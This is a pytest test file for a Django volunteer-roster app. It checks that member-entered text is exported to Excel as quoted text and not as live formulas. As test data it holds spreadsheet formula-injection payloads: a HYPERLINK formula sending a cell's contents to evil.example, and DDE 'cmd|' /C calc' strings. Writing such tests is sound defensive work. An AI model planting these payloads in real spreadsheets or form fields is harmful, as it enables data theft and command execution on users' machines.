"""What people type reaches the officers' workbooks as text, never as a formula that Excel runs."""

import datetime as dt
import io
from typing import Any

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell

from yixun.accounts.models import User
from yixun.lib import resident_id, spreadsheets
from yixun.members.models import Member, RulebookVersion
from yixun.members.services import applications, excel, roster, rulebook

LINK = '=HYPERLINK("http://evil.example/?"&B2,"排班表")'
# Each start that Excel or LibreOffice reads as a formula, with something after it.
FORMULAS = {
    "=": LINK,
    "+": "+8613900000002",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.fixture
def notice(officer) -> RulebookVersion:
    document = rulebook.create_document(kind="membership_notice", title="入会须知", actor=officer)
    return rulebook.publish_version(
        document=document, body="# 入会须知\n\n服从安排。", change_note="", actor=officer
    )


def id_number(i: int) -> str:
    born = dt.date(timezone.localdate().year - 30, 1, 1) - dt.timedelta(days=i)
    first17 = f"420923{born:%Y%m%d}{i:03d}"
    return first17 + resident_id.check_character(first17)


def join(notice: RulebookVersion, officer: User, i: int, name: str) -> Member:
    """Someone from the public applies with the join form's service and is approved."""
    application, _token = applications.submit_application(
        submission=applications.Submission(
            name=name,
            phone=f"+86137000000{i:02d}",
            id_number=resident_id.parse(id_number(i)),
            notice_version=notice,
        ),
        address=f"198.51.100.{i}",
    )
    return applications.approve_application(application=application, actor=officer)


@pytest.fixture
def typed(notice, officer) -> dict[str, Member]:
    """A member for each formula start, who put it in their name (where the join form keeps it:
    it trims spaces, tabs and returns), in their emergency contact and in their languages
    (their own profile)."""
    members = {}
    for i, (start, text) in enumerate(FORMULAS.items(), start=1):
        name = text if text.strip() == text else f"队员{i}"
        member = join(notice, officer, i, name)
        roster.update_details(
            member=member,
            actor=member.user,
            emergency_name=text,
            skills=[{"skill": "language", "detail": text}],
        )
        members[start] = member
    return members


def exported(content: bytes) -> tuple[dict[str, int], dict[str, list[Cell]]]:
    """The export's columns by their import key, and its rows by name, read with their styles."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    columns = {c.key: header.index(str(c.label)) for c in excel.IMPORT_COLUMNS}
    return columns, {str(row[0].value): list(row) for row in sheet.iter_rows(min_row=2)}


def assert_text_that_stays_text(cell: Cell, value: str) -> None:
    assert cell.data_type == "s", (value, cell.data_type)
    assert cell.quotePrefix, value
    # The one change: a carriage return comes back from any .xlsx as a line feed (XML's rule).
    assert cell.value == value.replace("\r", "\n")


def test_formulas_typed_by_members_are_exported_as_text(login, officer, typed, volunteer) -> None:
    response = login(officer).get("/members/export/")
    assert response.status_code == 200
    column, rows = exported(response.content)
    for start, text in FORMULAS.items():
        member = typed[start]
        row = rows[member.user.name]
        if member.user.name == text:
            assert_text_that_stays_text(row[column["name"]], text)
        assert_text_that_stays_text(row[column["emergency_name"]], text)
        skills = row[column["skills"]]  # starts with the skill's name: text, nothing to mark
        assert (skills.value, skills.data_type) == (f"外语或方言 ({text})".replace("\r", "\n"), "s")
    ordinary = rows["张志愿"]
    assert (ordinary[0].value, ordinary[0].data_type, ordinary[0].quotePrefix) == (
        "张志愿",
        "s",
        False,
    )
    assert (ordinary[column["squad"]].value, ordinary[column["squad"]].quotePrefix) == (
        "城关一分队",
        False,
    )
    assert (ordinary[column["phone"]].value, ordinary[column["phone"]].quotePrefix) == (
        "139 0000 0002",
        False,
    )


def test_no_cell_of_any_export_is_a_formula(login, officer, typed) -> None:
    exports = [
        login(officer).get("/members/export/").content,
        login(officer).post("/members/export/", {"reason": "核对保险名单"}).content,
        login(officer).get("/members/import/template.xlsx").content,
    ]
    for content in exports:
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_a_squad_name_in_the_template_stays_text(officer) -> None:
    squad = roster.create_squad(name="=1+1", area=None, leader=None, actor=officer)
    lists = load_workbook(io.BytesIO(excel.template())).worksheets[1]
    assert_text_that_stays_text(lists["A1"], squad.name)
    assert lists["B1"].value and not lists["B1"].quotePrefix  # a kind, as it always was


def test_an_exported_formula_imports_back_as_the_same_text(officer, typed) -> None:
    content = excel.export_roster(
        members=Member.objects.roster_for(officer).filter(pk__in=[m.pk for m in typed.values()]),
        viewer=officer,
        reveal_ids=True,
        reason="核对名单",
    )
    result = excel.import_roster(data=content, actor=officer)
    assert result == excel.ImportResult(created=0, updated=0, unchanged=len(FORMULAS))
    member = Member.objects.get(pk=typed["="].pk)
    assert (member.user.name, member.emergency_name) == (LINK, LINK)
    assert member.skills.get().detail == LINK


def test_a_new_member_named_like_a_formula_is_imported_as_written(officer) -> None:
    """A row written as the export writes it: the text arrives as it was, not as a result."""
    book = Workbook()
    sheet: Any = book.active
    spreadsheets.append(sheet, ["name", "phone", "id_number", "emergency_name", "emergency_phone"])
    spreadsheets.append(sheet, [LINK, "+8613700000099", id_number(99), "@家属", "+8613800138000"])
    out = io.BytesIO()
    book.save(out)
    assert excel.import_roster(data=out.getvalue(), actor=officer).created == 1
    member = Member.objects.select_related("user").get(user__phone="+8613700000099")
    assert (member.user.name, member.emergency_name) == (LINK, "@家属")
    assert member.emergency_phone == "+8613800138000"
